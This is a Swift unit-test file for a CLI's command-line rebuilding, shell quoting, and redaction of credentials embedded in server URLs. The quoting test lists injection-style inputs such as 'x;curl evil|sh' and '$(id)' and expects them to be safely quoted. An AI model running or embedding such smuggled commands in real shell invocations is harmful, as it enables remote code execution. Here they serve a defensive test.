import AppCore
import AppCoreTestSupport
import TerminalKit
import Testing
import TextCore

@Suite struct InvocationTests {
    private func parsed(_ arguments: [String]) throws -> ParsedCommand {
        let request = try CommandLineParser(SampleApp.spec, language: .english).parse(arguments)
        guard case .run(let parsed) = request else { throw UsageError("no command: \(arguments)") }
        return parsed
    }

    private func invocation(_ arguments: [String], setting: String? = nil) throws -> Invocation {
        Invocation(.sample, try parsed(arguments), serverSetting: setting)
    }

    @Test(
        arguments: [
            ([], ""), (["--profile", "default"], "--profile default "), (["--language", "ko"], ""),
            (["--record", "a"], ""), (["--server", "none"], "--server none "),
            (
                ["--store", "memory", "--profile", "x", "--server", "http://[::1]:8080/api"],
                "--server 'http://[::1]:8080/api' --profile x --store memory "
            ),
            (["--server", "http://me:secret@board.test"], ""),
            (["--server", "http://a.test/it's"], #"--server 'http://a.test/it'\''s' "#),
        ] as [([String], String)])
    func `Repeats only the typed options of the place`(typed: [String], part: String) throws {
        let line = try invocation(["doctor"] + typed, setting: "http://set.test").commandLine("get 5")
        #expect(line == "sample-cli \(part)get 5")
    }

    @Test(arguments: [
        (["get"], "sample-cli get --page 2"),
        (["--language", "ko", "get", "--store", "memory"], "sample-cli --store memory get --page 2"),
    ])
    func `The next page belongs to the same command at the same place`(typed: [String], line: String) throws {
        #expect(try invocation(typed).commandLine(page: "page", "2") == line)
    }

    @Test(arguments: [
        ("민수", "민수"), ("é", "é"), ("Kim Minsu", "'Kim Minsu'"), ("x;curl evil|sh", "'x;curl evil|sh'"),
        ("a\u{A0}b", "'a\u{A0}b'"), ("$(id)", "'$(id)'"), ("it's", #"'it'\''s'"#), ("", "''"), ("~", "'~'"),
    ])
    func `Quotes a word unless a shell leaves it unchanged`(text: String, word: String) {
        #expect(Invocation.quoted(text) == word)
    }

    @Test(arguments: ["lamp", "", "it's", "a  b", "$(x) `y` \\", "'", "\"한글\"", "-a=b"])
    func `A test splits a command line like a shell`(text: String) {
        #expect(ScreenTest.words(of: "sample-cli list \(Invocation.quoted(text)) x") == ["list", text, "x"])
    }

    @Test func `Another place replaces the server, and the profile stays`() throws {
        let call = try invocation(["doctor", "--server", "http://a.test", "--profile", "x"])
        #expect(
            call.at(place: "http://b.test").commandLine("get")
                == "sample-cli --server http://b.test --profile x get")
        #expect(call.at(place: nil).commandLine("get") == "sample-cli --profile x get")
    }

    @Test(arguments: [("http://set.test", "--server none "), ("none", ""), (nil, "")])
    func `Names this device only if the settings name a server`(setting: String?, part: String) throws {
        let line = try invocation(["doctor"], setting: setting).at(place: nil).commandLine("get")
        #expect(line == "sample-cli \(part)get")
    }

    @MainActor
    @Test func `Shows where to store a key, with the profile and without the address that may contain a key`()
        async throws
    {
        let app = try TestApp()
        let run = await app.run("doctor", "--server", "http://me:hunter2@a.test", "--profile", "x")
        #expect(run.error.contains("'sample-cli --profile x config set-secret'"), "\(run.error)")
        #expect(!run.error.contains("hunter2"))
        let set = await app.run("config", "set", "server", "http://me:hunter2@a.test", "--profile", "x")
        #expect(set.error.contains("'sample-cli --profile x config set-secret'"), "\(set.error)")
    }
}
